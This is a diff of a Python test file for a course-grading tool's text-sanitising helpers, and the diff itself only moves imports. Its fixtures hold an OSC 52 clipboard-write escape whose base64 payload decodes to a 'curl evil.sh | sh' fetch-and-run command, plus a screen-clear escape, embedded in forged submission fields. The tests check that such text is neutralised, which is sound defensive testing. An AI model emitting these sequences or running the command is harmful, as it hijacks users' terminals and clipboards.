@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from pmcourse.grading.textsafe import clean_html, csv_cell, one_line, strip_controls
+from pmcourse.grading.pipeline.textsafe import clean_html, csv_cell, one_line, strip_controls
 
 OSC52_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
 """An OSC 52 sequence: a terminal that honours it writes to the user's clipboard."""
@@ -48,7 +48,7 @@ def test_sanitised_markdown_keeps_structure_and_drops_script() -> None:
 
 def test_the_grade_table_on_the_terminal_shows_forged_text_inert() -> None:
     from pmcourse.grading.cli import _table
-    from pmcourse.grading.ledger import SubmissionResult
+    from pmcourse.grading.pipeline.ledger import SubmissionResult
 
     forged = SubmissionResult("a1", f"eve{OSC52_CLIPBOARD}", "error",
                               f"nb.ipynb is empty\x1b[2J{OSC52_CLIPBOARD}\nsecond line")
